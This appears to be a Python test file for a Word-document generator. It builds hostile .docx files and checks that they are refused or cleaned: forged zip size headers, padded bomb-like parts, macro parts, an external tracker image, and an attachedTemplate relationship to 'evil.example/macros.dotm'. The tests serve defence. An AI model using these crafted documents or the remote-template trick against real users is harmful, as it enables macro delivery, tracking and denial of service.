"""Hostile Word files given to --template and --into (issue 11): zip bombs, lying headers, too
many parts, macros, external relationships, a document without w:body, and style ids with XML
metacharacters. Every hostile file is built here with zipfile and is small on disk."""

from __future__ import annotations

import io
import os
import struct
import zipfile
from pathlib import Path

import docx
import pytest
from conftest import EXAMPLES, run_cli
from docx.oxml.ns import qn
from lxml import etree

from clausegen.docx.safezip import LIMITS, read_package
from clausegen.errors import ClausegenError

EXAMPLE = EXAMPLES / "schoonmaak-den-haag.yaml"
DOCM_CT = "application/vnd.ms-word.document.macroEnabled.main+xml"
DOCX_CT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOTX_CT = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"


def plain_docx() -> dict[str, bytes]:
    """The members of a fresh python-docx document."""
    buffer = io.BytesIO()
    docx.Document().save(buffer)
    with zipfile.ZipFile(buffer) as package:
        return {name: package.read(name) for name in package.namelist()}


def build(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in members.items():
            package.writestr(name, data)
    return path


def declare_size(path: Path, name: str, size: int) -> None:
    """Make the zip's headers (local and central) claim `size` inflated bytes for `name`."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as package:
        info = package.getinfo(name)
        start = package.start_dir  # type: ignore[attr-defined]
    struct.pack_into("<L", data, info.header_offset + 22, size)
    offset = start
    while data[offset : offset + 4] == b"PK\x01\x02":
        name_len, extra_len, comment_len = struct.unpack_from("<3H", data, offset + 28)
        if data[offset + 46 : offset + 46 + name_len].decode() == name:
            struct.pack_into("<L", data, offset + 24, size)
        offset += 46 + name_len + extra_len + comment_len
    path.write_bytes(bytes(data))


def refused(path: Path) -> str:
    with pytest.raises(ClausegenError) as caught:
        read_package(path, "template", "hint")
    message = str(caught.value)
    assert "\n" not in message
    return message


def assert_cli_refuses(path: Path, tmp_path: Path, expected: str, option: str = "--template") -> None:
    out = tmp_path / "out"
    result = run_cli("generate", EXAMPLE, "-o", out, option, path)
    assert result.exit_code == 2, result.output
    assert len(result.stderr.splitlines()) == 1 and "Traceback" not in result.stderr
    assert expected in result.stderr
    assert not out.exists()


# ------------------------------------------------------------------------ sizes and ratios


def test_an_image_that_claims_2_gb_is_refused_before_inflating(tmp_path: Path) -> None:
    path = build(tmp_path / "bom.docx", {**plain_docx(), "word/media/image1.png": b"\0" * 100_000})
    declare_size(path, "word/media/image1.png", 2_000_000_000)
    assert path.stat().st_size < 200_000
    assert "word/media/image1.png" in refused(path) and "2.000 MB" in refused(path)
    assert_cli_refuses(path, tmp_path, "de grens is 64 MB")


@pytest.mark.parametrize("member", ["[Content_Types].xml", "word/document.xml"])
def test_a_part_padded_far_beyond_its_size_is_refused_by_its_ratio(tmp_path: Path, member: str) -> None:
    members = plain_docx()
    members[member] = members[member] + b" " * 20_000_000  # inflates 1000 times its zipped size
    path = build(tmp_path / "padded.docx", members)
    assert path.stat().st_size < 1_000_000
    assert "samengeperst" in refused(path)


@pytest.mark.parametrize("member", ["[Content_Types].xml", "word/document.xml"])
def test_a_part_that_claims_1_gb_is_refused(tmp_path: Path, member: str) -> None:
    path = build(tmp_path / "claims.docx", plain_docx())
    declare_size(path, member, 1_000_000_000)
    assert member in refused(path)


def test_a_header_that_understates_a_part_cannot_inflate_past_it(tmp_path: Path) -> None:
    members = plain_docx()
    members["word/media/image1.png"] = b"\0" * 5_000_000
    path = build(tmp_path / "liar.docx", members)
    declare_size(path, "word/media/image1.png", 1000)
    message = refused(path)
    assert "word/media/image1.png" in message and ("beschadigd" in message or "groter" in message)


def test_a_dotx_with_an_unreferenced_2_gb_member_is_refused(tmp_path: Path) -> None:
    members = plain_docx()
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(DOCX_CT.encode(), DOTX_CT.encode())
    members["customXml/padding.bin"] = b"\0" * 50_000
    path = build(tmp_path / "huisstijl.dotx", members)
    declare_size(path, "customXml/padding.bin", 2_000_000_000)
    assert "customXml/padding.bin" in refused(path)
    assert_cli_refuses(path, tmp_path, "customXml/padding.bin")


def test_too_many_members_and_too_much_in_total_are_refused(tmp_path: Path) -> None:
    many = {**plain_docx(), **{f"customXml/item{i}.xml": b"<a/>" for i in range(LIMITS.max_members)}}
    assert "onderdelen" in refused(build(tmp_path / "many.docx", many))
    members = {**plain_docx(), **{f"word/media/image{i}.png": os.urandom(320_000) for i in range(4)}}
    path = build(tmp_path / "total.docx", members)
    for i in range(4):
        declare_size(path, f"word/media/image{i}.png", 60_000_000)
    assert "uitgepakt" in refused(path) and "200 MB" in refused(path)


# ------------------------------------------------------------------------ macros and links


def test_a_macro_part_is_refused_and_never_copied(tmp_path: Path) -> None:
    path = build(tmp_path / "macro.docx", {**plain_docx(), "word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})
    assert "macro" in refused(path)
    assert_cli_refuses(path, tmp_path, "vbaProject.bin", "--into")


@pytest.mark.parametrize("name", ["brief.docm", "sjabloon.dotm"])
def test_a_macro_enabled_content_type_is_refused(tmp_path: Path, name: str) -> None:
    members = plain_docx()
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(DOCX_CT.encode(), DOCM_CT.encode())
    path = build(tmp_path / name, members)
    assert_cli_refuses(path, tmp_path, "met macro's")


def with_relationship(kind: str, target: str) -> dict[str, bytes]:
    members = plain_docx()
    rel = (
        f'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()
    members["word/_rels/document.xml.rels"] = members["word/_rels/document.xml.rels"].replace(b"</Relationships>", rel)
    return members


def test_an_external_image_is_refused(tmp_path: Path) -> None:
    path = build(tmp_path / "extern.docx", with_relationship("image", "http://example.org/tracker.png"))
    assert "extern" in refused(path)
    assert_cli_refuses(path, tmp_path, "tracker.png", "--into")


def test_an_external_hyperlink_is_kept_and_an_attached_template_dropped(tmp_path: Path) -> None:
    members = with_relationship("hyperlink", "https://www.example.org/")
    members["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://evil.example/macros.dotm" TargetMode="External"/></Relationships>'
    )
    members["word/settings.xml"] = members["word/settings.xml"].replace(
        b"</w:settings>", b'<w:attachedTemplate r:id="rId1"/></w:settings>'
    )
    if b"xmlns:r=" not in members["word/settings.xml"]:
        members["word/settings.xml"] = members["word/settings.xml"].replace(
            b"<w:settings ",
            b'<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ',
            1,
        )
    host = build(tmp_path / "host.docx", members)
    out = tmp_path / "out"
    result = run_cli("generate", EXAMPLE, "-o", out, "--into", host)
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(out / "host.docx") as package:
        everything = b"".join(package.read(n) for n in package.namelist())
    assert b"evil.example" not in everything and b"attachedTemplate" not in everything
    assert b"https://www.example.org/" in everything


def test_a_document_without_a_body_is_refused(tmp_path: Path) -> None:
    members = plain_docx()
    members["word/document.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
    )
    path = build(tmp_path / "leeg.docx", members)
    assert_cli_refuses(path, tmp_path, "geen w:body")
    assert_cli_refuses(path, tmp_path, "geen w:body", "--into")


# ------------------------------------------------------------------------ XML metacharacters


def test_style_ids_with_xml_metacharacters_give_valid_xml(tmp_path: Path) -> None:
    """A buyer's template whose Title, Heading 1 and Normal style ids hold `&"<`: the documents
    are written, every XML part parses, and the title paragraph names the id exactly."""
    members = plain_docx()
    styles = members["word/styles.xml"]
    for old, new in (
        (b"Title", b"T&amp;&quot;&lt;itel"),
        (b"Heading1", b"K&amp;&quot;&lt;1"),
        (b"Normal", b"N&amp;&quot;&lt;"),
    ):
        styles = styles.replace(b'w:styleId="' + old + b'"', b'w:styleId="' + new + b'"')
        for link in (b"basedOn", b"next", b"link"):
            styles = styles.replace(
                b"<w:" + link + b' w:val="' + old + b'"/>', b"<w:" + link + b' w:val="' + new + b'"/>'
            )
    members["word/styles.xml"] = styles
    etree.fromstring(styles)
    template = build(tmp_path / "huisstijl.docx", members)
    out = tmp_path / "out"
    result = run_cli("generate", EXAMPLE, "-o", out, "--template", template)
    assert result.exit_code == 0, result.output
    written = sorted(out.glob("*.docx"))
    assert written
    for path in written:
        with zipfile.ZipFile(path) as package:
            for name in package.namelist():
                if name.endswith((".xml", ".rels")):
                    etree.fromstring(package.read(name))  # raises on broken XML
        body = docx.Document(str(path)).element.body
        used = {
            el.get(qn("w:val")) for el in body.iter(qn("w:pStyle"))
        }  # python-docx's p.style cannot look such ids up
        assert 'T&"<itel' in used
